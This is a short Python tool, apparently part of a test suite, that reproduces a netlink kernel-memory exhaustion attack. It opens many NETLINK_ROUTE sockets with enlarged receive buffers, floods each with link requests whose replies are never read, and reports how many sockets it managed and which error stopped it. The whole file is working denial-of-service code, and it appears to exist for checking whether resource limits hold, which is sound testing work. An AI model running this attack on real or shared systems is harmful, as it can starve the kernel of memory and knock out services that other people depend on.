# netlinkpin.py - the netlink attack of issue 21 as a Python tool:
# NETLINK_ROUTE sockets with raised receive buffers, link requests never
# read ({"mb": N} on stdin: about N MiB, 256 by default). Prints
# {"sockets": K, "error": NAME} where NAME is the errno that stopped it
# (null when nothing did).
import errno, json, socket, struct, sys
raw = sys.stdin.read()
mb = json.loads(raw)["mb"] if raw.strip() else 256
# nlmsghdr (len, RTM_GETLINK, NLM_F_REQUEST, seq, pid) + ifinfomsg (lo)
req = struct.pack("=IHHII", 32, 18, 1, 0, 0) + struct.pack("=BxHiII", 0, 0, 1, 0, 0)
socks, err = [], None
try:
    while len(socks) * 8 < mb:
        s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 64 << 20)
        socks.append(s)
        for _ in range(3000):	# about 8 MiB of replies, left unread
            s.send(req)
except OSError as e:
    err = errno.errorcode.get(e.errno, str(e.errno))
print(json.dumps({"sockets": len(socks), "error": err}))
